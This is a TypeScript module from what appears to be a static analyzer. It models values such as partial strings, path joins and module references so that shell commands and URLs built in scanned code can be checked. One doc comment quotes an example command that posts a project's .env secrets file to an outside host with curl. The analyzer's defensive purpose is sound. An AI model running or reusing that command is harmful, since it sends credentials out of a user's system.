// Values the readers resolve statically: literal text, lists of values, and references to modules,
// functions and objects whose methods matter (a pathlib.Path, a socket).

export type Value =
  | { kind: 'str'; text: string }
  | { kind: 'list'; items: Value[] }
  /** A module, a function or a class, by its qualified name: 'os', 'os.system', 'child_process.execSync'. */
  | { kind: 'ref'; name: string }
  /** An instance whose methods have effects: Path('~/x'), socket.socket(); `of` is what it was made from. */
  | { kind: 'object'; type: string; of: Value }
  | { kind: 'record'; fields: Map<string, Value> }
  /**
   * Text only partly known: literal pieces with RUN_TIME_PART where a value is known only at run time
   * (`"curl -d @" + cwd + "/.env https://host/x"`). A command or URL built so is read for what is
   * written in it; as a path or a name it counts as unknown.
   */
  | { kind: 'partial'; text: string }
  | { kind: 'unknown' };

/** Stands in a partial text for a value known only at run time: a shell reads it as one run-time word. */
export const RUN_TIME_PART = '$RUNTIME_VALUE';

/** A string literal's value: `text`, with RUN_TIME_PART where it interpolated something (see concat). */
export function interpolated(text: string, hasRunTimeParts: boolean): Value {
  if (!hasRunTimeParts) return str(text);
  return text.split(RUN_TIME_PART).join('') === '' ? UNKNOWN : { kind: 'partial', text };
}

export const UNKNOWN: Value = { kind: 'unknown' };

/** Text built up longer than this is not followed: doubling concatenations would grow it without bound. */
const MAX_TEXT = 64 * 1024;

export function str(text: string): Value {
  return { kind: 'str', text };
}

export function ref(name: string): Value {
  return { kind: 'ref', name };
}

export function textOf(value: Value | undefined): string | undefined {
  return value?.kind === 'str' ? value.text : undefined;
}

/** The concatenation of values: literal text when all are, partial text when some literal text is known. */
export function concat(values: readonly (Value | undefined)[]): Value {
  let text = '';
  let known = false;
  let partial = false;
  for (const value of values) {
    if (value?.kind === 'str' || value?.kind === 'partial') {
      text += value.text;
      known ||= value.text !== '';
      partial ||= value.kind === 'partial';
    } else if (!text.endsWith(RUN_TIME_PART)) {
      text += RUN_TIME_PART;
      partial = true;
    }
    if (text.length > MAX_TEXT) return UNKNOWN;
  }
  if (!partial) return str(text);
  return known ? { kind: 'partial', text } : UNKNOWN;
}

/** Joins path parts as os.path.join and path.join do: an absolute (or ~) part restarts the path. */
export function joinPath(parts: readonly (Value | undefined)[]): Value {
  let joined = '';
  let partial = false;
  for (const part of parts) {
    // A piece known only at run time (`os.path.dirname(__file__)`) stands as one run-time word.
    const text = part?.kind === 'str' || part?.kind === 'partial' ? part.text : RUN_TIME_PART;
    if (text.startsWith('/') || joined === '') {
      joined = text;
      partial = part?.kind !== 'str';
    } else if (text !== '') {
      joined = joined.endsWith('/') ? joined + text : `${joined}/${text}`;
      partial ||= part?.kind !== 'str';
    }
    if (joined.length > MAX_TEXT) return UNKNOWN;
  }
  return partial ? interpolated(joined, true) : str(joined);
}

/** The literal items of a list, up to the first that is not literal text. */
export function literalPrefix(items: readonly Value[]): { argv: string[]; complete: boolean } {
  const argv: string[] = [];
  for (const item of items) {
    if (item.kind !== 'str') return { argv, complete: false };
    argv.push(item.text);
  }
  return { argv, complete: true };
}

/** The home folder as the caller's path logic reads it. */
export const HOME = str('~');

/** Character codes as the text they spell, or UNKNOWN when any of them is not a literal number. */
export function charactersOf(codes: readonly Value[]): Value {
  const texts = codes.map(textOf);
  if (texts.length === 0 || texts.some((t) => t === undefined || !/^\d{1,7}$/.test(t))) return UNKNOWN;
  return str(texts.map((t) => String.fromCodePoint(Number(t) % 0x110000)).join(''));
}
